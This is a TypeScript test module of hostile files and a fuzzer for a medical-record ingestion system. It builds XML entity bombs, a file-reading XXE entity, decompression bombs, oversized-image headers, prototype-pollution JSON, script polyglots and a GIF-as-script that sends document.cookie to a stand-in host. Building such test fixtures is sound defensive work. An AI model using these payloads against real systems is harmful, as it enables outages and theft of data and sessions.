/** Files that want to hurt whoever reads them, and a fuzzer that makes more out of good ones: for tests. */
import { deflateSync, gzipSync } from "node:zlib";
import { dicomFile, grey, nested, person } from "./dicom/testing.ts";
import { fixtures } from "./fixtures.ts";
import type { Kind } from "./ingestion/model.ts";
import { archiveOf } from "./office/testing.ts";

type Bytes = Uint8Array<ArrayBuffer>;
const MIB = 1024 * 1024;

const latin1 = (text: string): Bytes => Uint8Array.from(text, (char) => char.charCodeAt(0));

function join(...parts: Uint8Array[]): Bytes {
  const whole = new Uint8Array(parts.reduce((sum, { byteLength }) => sum + byteLength, 0));
  let at = 0;
  for (const part of parts) {
    whole.set(part, at);
    at += part.byteLength;
  }
  return whole;
}

/** mulberry32: the same numbers in every run. */
export function random(seed: number): () => number {
  return () => {
    seed = seed + 0x6d2b79f5 | 0;
    let t = Math.imul(seed ^ seed >>> 15, 1 | seed);
    t = t + Math.imul(t ^ t >>> 7, 61 | t) ^ t;
    return ((t ^ t >>> 14) >>> 0) / 4294967296;
  };
}

/** Flips, cuts, repeats and inserts, after the manner of a fuzzer. */
export function fuzz(bytes: Uint8Array, next: () => number): Bytes {
  let out = new Uint8Array(bytes);
  const changes = 1 + Math.floor(next() * 8);
  for (let change = 0; change < changes && out.byteLength > 8; change++) {
    const at = Math.floor(next() * out.byteLength);
    const length = Math.floor(next() * Math.min(64, out.byteLength - at));
    const how = next();
    if (how < 0.5) out[at] = Math.floor(next() * 256);
    else if (how < 0.7) out = join(out.subarray(0, at), out.subarray(at + length));
    else if (how < 0.9) out = join(out.subarray(0, at + length), out.subarray(at));
    else out.fill(255, at, at + length);
  }
  return out.byteLength === 0 ? Uint8Array.of(0) : out;
}

const PACKAGE = { "[Content_Types].xml": "<Types/>" };
const blanks = (length: number) => new Uint8Array(length).fill(0x20);

const u16 = (value: number) => [value & 255, value >> 8];
const u32 = (value: number) => [...u16(value & 65535), ...u16(value >>> 16)];
const big16 = (value: number) => [value >> 8, value & 255];

const cda = (inner: string, before = "") =>
  latin1(`<?xml version="1.0"?>${before}<ClinicalDocument xmlns="urn:hl7-org:v3">${inner}`);

/** A PDF of these objects, without a table of them: readers look for them then. */
const pdf = (...objects: (string | [head: string, stream: Uint8Array])[]) =>
  join(
    latin1("%PDF-1.7\n"),
    ...objects.flatMap((object, at) => {
      const [head, stream] = typeof object === "string" ? [object, undefined] : object;
      return [
        latin1(`${at + 1} 0 obj\n${head}\n`),
        ...(stream ? [latin1("stream\n"), stream, latin1("\nendstream\n")] : []),
        latin1("endobj\n"),
      ];
    }),
    latin1("trailer\n<< /Root 1 0 R >>\n%%EOF"),
  );

const CATALOG = "<< /Type /Catalog /Pages 2 0 R >>";
const PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const pageWith = (resources: string) =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << ${resources} >> >>`;
const streamOf = (bytes: Uint8Array, facts = ""): [string, Uint8Array] => [
  `<< /Length ${bytes.byteLength} ${facts} >>`,
  bytes,
];
const pdfWithPicture = (filter: string, picture: Uint8Array) =>
  pdf(
    CATALOG,
    PAGES,
    pageWith("/XObject << /I 5 0 R >>"),
    streamOf(latin1("9 0 0 9 0 0 cm /I Do")),
    streamOf(
      picture,
      "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 " +
        `/ColorSpace /DeviceGray /Filter /${filter}`,
    ),
  );

/** SIZ of a JPEG 2000 codestream: two thousand million pixels in each direction. */
const JPEG_2000 = Uint8Array.from([
  ...[0xff, 0x4f, 0xff, 0x51, 0, 41, 0, 0],
  ...[0x7f, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff, ...new Array(8).fill(0)],
  ...[0x7f, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff, ...new Array(8).fill(0)],
  ...[0, 1, 7, 1, 1, 0xff, 0x93],
]);
/** A baseline frame of 65,500 × 65,500, and hardly any data. */
const JPEG = Uint8Array.from([
  ...[0xff, 0xd8, 0xff, 0xc0, 0, 11, 8, ...big16(65_500), ...big16(65_500), 1, 1, 0x11, 0],
  ...[0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0, 1, 2, 3, 0xff, 0xd9],
]);
/** Page information of a JBIG2 stream: 2³¹ pixels wide and high. */
const JBIG2 = Uint8Array.from([
  ...[0, 0, 0, 0, 48, 0, 1, 0, 0, 0, 19],
  ...[0x7f, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff, ...new Array(8).fill(0), 0, 0, 0],
]);

const fhirWith = (data: Uint8Array, contentType: string) =>
  new TextEncoder().encode(JSON.stringify({
    resourceType: "DocumentReference",
    content: [{ attachment: { contentType, data: data.toBase64() } }],
  }));

function attachmentsInside(levels: number): Bytes {
  let inner: Bytes = latin1("at last");
  for (let level = 0; level < levels; level++) inner = fhirWith(inner, "application/fhir+json");
  return inner;
}

const preambled = (start: string) => {
  const bytes = fixtures.dicomMinimal();
  bytes.set(latin1(start));
  return bytes;
};

/** `kind`: what it must be taken for, where a file could pass for several. */
type Hostile = { name: string; bytes: () => Bytes; kind?: Kind };

export const hostile: Hostile[] = [
  {
    name: "JSON, nested by the hundred thousand",
    bytes: () =>
      latin1(`{"resourceType":"Bundle","a":${"[".repeat(300_000)}${"]".repeat(300_000)}}`),
  },
  {
    name: "JSON with a number of a million digits, and keys that mean something to JavaScript",
    bytes: () =>
      latin1(
        `{"resourceType":"Patient","__proto__":{"id":"x"},"constructor":{"prototype":1},` +
          `"a":${"9".repeat(1_000_000)}}`,
      ),
  },
  { name: "attachments inside attachments", bytes: () => attachmentsInside(24) },
  {
    name: "an attachment that unpacks to a quarter of a gigabyte",
    bytes: () => fhirWith(flate(256), "application/pdf"),
  },
  { name: "XML, nested by the hundred thousand", bytes: () => cda("<a>".repeat(300_000)) },
  {
    name: "XML with a hundred thousand attributes on one element",
    bytes: () =>
      cda(`<a ${Array.from({ length: 100_000 }, (_, at) => `a${at}="x"`).join(" ")}/>` + END),
  },
  { name: "XML of a million siblings", bytes: () => cda("<a/>".repeat(1_000_000) + END) },
  { name: "XML in a comment without end", bytes: () => cda("<!--" + "- ".repeat(2_000_000)) },
  {
    name: "a billion laughs",
    bytes: () => {
      const entities = Array.from(
        { length: 10 },
        (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
      ).join("");
      const type = `<!DOCTYPE ClinicalDocument [<!ENTITY l0 "lol">${entities}]>`;
      return cda(`<title>&l10;</title>${END}`, type);
    },
  },
  {
    name: "one large entity, named ten thousand times",
    bytes: () =>
      cda(
        `<title>${"&e;".repeat(10_000)}</title>${END}`,
        `<!DOCTYPE ClinicalDocument [<!ENTITY e "${"x".repeat(100_000)}">]>`,
      ),
  },
  {
    name: "an entity that names a file",
    bytes: () =>
      cda(
        `<title>&x;</title>${END}`,
        `<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/hostname">]>`,
      ),
  },
  { name: "DICOM sequences, nested by the hundred thousand", bytes: () => nested(100_000) },
  {
    name: "a DICOM sequence of a million empty items",
    bytes: () => {
      const item = Uint8Array.from([...u16(0xfffe), ...u16(0xe000), ...u32(0)]);
      const items = new Uint8Array(item.byteLength * 1_000_000);
      for (let at = 0; at < items.byteLength; at += item.byteLength) items.set(item, at);
      const head = [...u16(0x0040), ...u16(0xa730), 0x53, 0x51, 0, 0, ...u32(0xffffffff)];
      return join(dicomFile(person()), Uint8Array.from(head), items);
    },
  },
  {
    name: "deflated DICOM that unpacks to half a gigabyte",
    bytes: () =>
      dicomFile([...person(), [0x0040a160, "UT", new Uint8Array(512 * MIB)]], {
        syntax: "1.2.840.10008.1.2.1.99",
      }),
  },
  {
    name: "DICOM that claims gigapixels",
    bytes: () => dicomFile([...person(), ...grey([0, 0, 0, 0], { rows: 65_535, columns: 65_535 })]),
  },
  ...Object.entries({
    "1.2.840.10008.1.2.4.50": JPEG,
    "1.2.840.10008.1.2.4.91": JPEG_2000,
    "1.2.840.10008.1.2.5": Uint8Array.from([...u32(1), ...u32(64), ...new Array(56).fill(0), 129]),
  }).map(([syntax, frame]): Hostile => ({
    name: `DICOM whose compressed frame (${syntax}) claims more than the file`,
    bytes: () =>
      dicomFile([
        ...person(),
        ...grey([0, 0, 0, 0], { rows: 512, columns: 512 }).filter(([tag]) => tag !== 0x7fe00010),
        [0x7fe00010, "OB", { fragments: [new Uint8Array(), frame] }],
      ], { syntax }),
  })),
  {
    name: "DICOM with a length that lies",
    bytes: () =>
      join(
        dicomFile(person()),
        Uint8Array.from([...u16(0x0010), ...u16(0x4000), 0x55, 0x54, 0, 0, ...u32(0x7ffffffe)]),
      ),
  },
  {
    name: "a PDF stream that unpacks to a quarter of a gigabyte",
    bytes: () => flate(256),
  },
  {
    name: "a PDF whose pages hold each other",
    bytes: () =>
      pdf(
        CATALOG,
        "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2000000000 >>",
        "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 2000000000 >>",
      ),
  },
  {
    name: "a PDF drawing that draws itself",
    bytes: () =>
      pdf(
        CATALOG,
        PAGES,
        pageWith("/XObject << /F 5 0 R >>"),
        streamOf(latin1("/F Do ".repeat(100))),
        streamOf(
          latin1("/F Do ".repeat(100)),
          "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>",
        ),
      ),
  },
  {
    name: "a PDF of a million saved states",
    bytes: () => pdf(CATALOG, PAGES, pageWith(""), streamOf(latin1("q ".repeat(1_000_000)))),
  },
  {
    name: "a PDF with a JPEG 2000 of gigapixels",
    bytes: () => pdfWithPicture("JPXDecode", JPEG_2000),
  },
  { name: "a PDF with a JBIG2 of gigapixels", bytes: () => pdfWithPicture("JBIG2Decode", JBIG2) },
  { name: "a PDF with a JPEG of gigapixels", bytes: () => pdfWithPicture("DCTDecode", JPEG) },
  {
    name: "a PNG that claims gigapixels",
    bytes: () => {
      const png = fixtures.png();
      png.set([0x7f, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff], 16);
      return png;
    },
  },
  { name: "a JPEG that claims gigapixels", bytes: () => new Uint8Array(JPEG) },
  {
    name: "a GIF of many frames that each claim gigapixels",
    bytes: () => {
      const frame = [0x2c, 0, 0, 0, 0, ...u16(65_535), ...u16(65_535), 0, 2, 2, 0x4c, 1, 0];
      const frames = Array.from({ length: 10_000 }, () => frame).flat();
      const screen = [...u16(65_535), ...u16(65_535), 0x80, 0, 0, 0, 0, 0, 255, 255, 255];
      return join(latin1("GIF89a"), Uint8Array.from([...screen, ...frames, 0x3b]));
    },
  },
  {
    name: "a TIFF whose directory comes after itself, with a strip outside the file",
    bytes: () => {
      const entry = (
        tag: number,
        value: number,
      ) => [...u16(tag), ...u16(4), ...u32(1), ...u32(value)];
      const entries = [
        entry(256, 60_000),
        entry(257, 60_000),
        entry(258, 8),
        entry(259, 1),
        entry(262, 1),
        entry(273, 0x7fffffff),
        entry(279, 0x7fffffff),
      ];
      return join(
        latin1("II*\0"),
        Uint8Array.from([...u32(8), ...u16(entries.length), ...entries.flat(), ...u32(8)]),
      );
    },
  },
  {
    name: "a gzip bomb",
    bytes: () => new Uint8Array(gzipSync(new Uint8Array(64 * MIB))),
    kind: "other",
  },
  {
    name: "PDF, HTML and HL7 at once",
    bytes: () => join(latin1("MSH|^~\\&|<script>alert(1)</script>\r%PDF-1.4\r"), fixtures.pdf("x")),
    kind: "hl7v2",
  },
  { name: "DICOM whose preamble is a TIFF", bytes: () => preambled("II*\0"), kind: "dicom" },
  { name: "DICOM whose preamble is a program", bytes: () => preambled("MZ\x90\0"), kind: "dicom" },
  {
    name: "a GIF that is a script",
    bytes: () => latin1("GIF89a/*\0\0\0\0\0*/=1;fetch('//elsewhere/'+document.cookie)//"),
    kind: "image",
  },
  {
    name: "HL7 of one endless segment",
    bytes: () => latin1(`MSH|^~\\&|${"^&~".repeat(2_000_000)}`),
  },
  { name: "HL7 of escapes", bytes: () => latin1(`MSH|^~\\&|A\rPID|${"\\".repeat(3_000_000)}`) },
  {
    name: "HL7 of a hundred thousand messages",
    bytes: () =>
      latin1(
        `BHS|^~\\&|A\r${"MSH|^~\\&|A|B|C|D|||ADT^A01|1|P|2.5\rPID|1\r".repeat(100_000)}BTS|3\r`,
      ),
  },
  { name: "words without end", bytes: () => latin1("a".repeat(8_000_000)) },
  {
    name: "letters that grow eighteenfold when they are taken apart",
    bytes: () => new TextEncoder().encode("\ufdfa".repeat(1_000_000)),
  },
  {
    name: "UTF-16 cut in the middle of a character",
    bytes: () =>
      Uint8Array.from([
        0xff,
        0xfe,
        ...Array.from({ length: 99_999 }, () => [0x3d, 0xd8]).flat(),
        0,
      ]),
  },
  {
    name: "a document that unfolds to hundreds of megabytes",
    bytes: () => archiveOf({ ...PACKAGE, "word/document.xml": blanks(300 * MIB) }),
    kind: "office",
  },
  {
    name: "a document that says it is small",
    bytes: () => archiveOf({ ...PACKAGE, "word/document.xml": blanks(100 * MIB) }, { size: 9 }),
    kind: "office",
  },
  {
    name: "a sheet of two million cells",
    bytes: () =>
      archiveOf({
        ...PACKAGE,
        "xl/workbook.xml": "<workbook/>",
        "xl/worksheets/sheet1.xml": `<sheetData><row>${
          '<c t="s"><v>0</v></c>'.repeat(2_000_000)
        }</row></sheetData>`,
      }),
    kind: "office",
  },
  {
    name: "a document of declared entities",
    bytes: () =>
      archiveOf({
        ...PACKAGE,
        "word/document.xml": `<!DOCTYPE w [<!ENTITY a "${"x".repeat(MIB)}">]><w>${
          "&a;".repeat(10_000)
        }</w>`,
      }),
    kind: "office",
  },
  {
    name: "RTF of groups in groups",
    bytes: () => latin1(`{\\rtf1 ${"{".repeat(5 * MIB)}`),
    kind: "office",
  },
];

const END = "</ClinicalDocument>";

function flate(mebibytes: number): Bytes {
  const bomb = deflateSync(new Uint8Array(mebibytes * MIB));
  return pdf(CATALOG, PAGES, pageWith(""), streamOf(bomb, "/Filter /FlateDecode"));
}
